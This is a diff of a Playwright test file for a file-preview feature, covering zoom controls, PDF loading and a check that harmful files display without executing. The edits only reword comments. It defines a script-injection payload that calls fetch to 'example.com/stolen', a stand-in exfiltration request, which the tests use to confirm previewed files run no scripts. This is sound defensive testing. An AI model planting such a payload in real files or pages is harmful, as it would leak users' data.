@@ -8,7 +8,7 @@ import { pane, shared, show } from '../acts/preview-acts.ts';
 const MIB = 1024 * 1024;
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 
-/** Returns a list. From now on, the `Range` header of each preview request is added to the list. */
+/** The returned list receives the `Range` header of each later preview request. */
 function recordRanges(page: Page): (string | undefined)[] {
   const ranges: (string | undefined)[] = [];
   page.on('request', (request) => {
@@ -29,7 +29,7 @@ test('zooms a picture by buttons, keys, double click and wheel, and hides its co
   await expect(level).toHaveText('100%');
   expect(await violations(visitor)).toEqual([]);
 
-  // The controls may be hidden now. A mouse move over the picture shows the controls again.
+  // The controls may be hidden. A mouse move over the picture shows them again.
   await picture.hover();
   await visitor.getByRole('button', { name: 'Zoom in' }).click();
   await expect(level).toHaveText('150%');
@@ -90,8 +90,7 @@ test('loads a PDF page by page, and runs nothing in it', async ({ page, newVisit
 
   const pages = visitor.getByRole('region', { name: 'Pages of paper.pdf' });
   await pages.focus();
-  // The list of PDF pages may still grow after the key was pressed, because the height of a page is known only after
-  // the page was read.
+  // The height of a PDF page is known only after it was read, so the list may still grow after the key was pressed.
   await expect(async () => {
     await visitor.keyboard.press('End');
     await expect(visitor.getByText('This is page 20', { exact: true })).toBeAttached({ timeout: 5000 });
@@ -208,7 +207,7 @@ test('shows harmful files without running them', async ({ page, newVisitor }) =>
   await expect(visitor.getByText('This PDF could not be read. It may be damaged.')).toBeVisible();
   await show(visitor, 'broken.mp4');
   await expect(visitor.getByText('Your browser cannot play this video.')).toBeVisible();
-  // Waits until the browser is idle. A script in the file would have run before this time.
+  // A script in the file would have run before the browser is idle.
   await visitor.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
   expect(await visitor.evaluate(() => '__hacked' in window)).toBe(false);
   expect(dialogs).toEqual([]);
